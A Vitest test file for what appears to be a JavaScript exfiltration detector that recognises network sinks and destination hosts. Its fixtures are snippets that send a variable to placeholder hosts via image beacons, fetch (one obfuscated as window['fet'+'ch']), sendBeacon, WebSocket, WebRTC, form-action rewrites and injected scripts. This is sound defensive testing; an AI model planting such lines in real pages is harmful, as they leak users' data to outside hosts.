import { describe, expect, test } from 'vitest';
import { destinationFromPrefix, urlInMarkup, isLoadingMarkup } from './sinks.js';
import { analyseSource, sha256 } from '../engine/run.js';
import { Facts } from '../engine/facts.js';
import { parseSource } from '../engine/parse.js';
import { VisitorMap, walkProgram } from '../engine/walk.js';
import { ProgramModel } from './model.js';

function model(code: string) {
  const facts = new Facts(false);
  walkProgram(parseSource(code).ast as any, facts, new VisitorMap());
  return new ProgramModel(facts);
}

describe('destinations', () => {
  test.each([
    [{ value: 'https://a.example/x?d=', hidden: false, complete: false }, 'literal', 'a.example'],
    [{ value: '//b.example/p', hidden: true, complete: true }, 'hidden', 'b.example'],
    [{ value: '/checkout/pay', hidden: false, complete: true }, 'relative', null],
    [{ value: '', hidden: false, complete: false }, 'computed', null],
    [{ value: 'https://', hidden: false, complete: false }, 'computed', null],
    [{ value: 'wss://ws.example:8443/s', hidden: false, complete: true }, 'literal', 'ws.example'],
  ] as const)('%o', (p, kind, host) => {
    const d = destinationFromPrefix(p);
    expect(d.kind).toBe(kind);
    expect(d.host).toBe(host);
  });
  test('markup', () => {
    expect(urlInMarkup('<img src="https://p.example/a.gif?d=')).toBe('https://p.example/a.gif?d=');
    expect(isLoadingMarkup('<b>hi</b>')).toBe(false);
  });
});

describe('sink recognition', () => {
  test.each([
    ["new Image().src = 'https://a.example/?d=' + x;", 'image'],
    ["var i = document.createElement('img'); i.src = u + x;", 'image'],
    ["fetch('https://a.example/', {method:'POST', body: x});", 'fetch'],
    ["window['fet' + 'ch']('https://a.example/', {body: x});", 'fetch'],
    ["navigator.sendBeacon('/b', x);", 'beacon'],
    ["var r = new XMLHttpRequest(); r.open('POST', '/g'); r.send(x);", 'xhr'],
    ["var w = new WebSocket('wss://s.example'); w.send(x);", 'websocket'],
    ["var c = new RTCPeerConnection().createDataChannel('d'); c.send(x);", 'webrtc'],
    ["$.ajax({url: 'https://a.example/', data: x});", 'ajax'],
    ["document.forms[0].action = 'https://a.example/';", 'form-action'],
    ["localStorage.setItem('k', x);", 'storage'],
    ["document.write('<img src=\"https://a.example/?' + x + '\">');", 'markup'],
    ["var s = document.createElement('script'); s.setAttribute('src', 'https://a.example/x.js');", 'script'],
  ])('%s -> %s', (code, kind) => {
    expect(model(code).sinks().map((s) => s.kind)).toContain(kind);
  });
  test('facts list network sinks', () => {
    const code = "fetch('https://a.example/', {method:'POST', body: x});";
    expect(analyseSource({ sha256: sha256(code), source: code, url: null, kind: 'inline' }).facts.sinks).toEqual(['fetch']);
  });
});
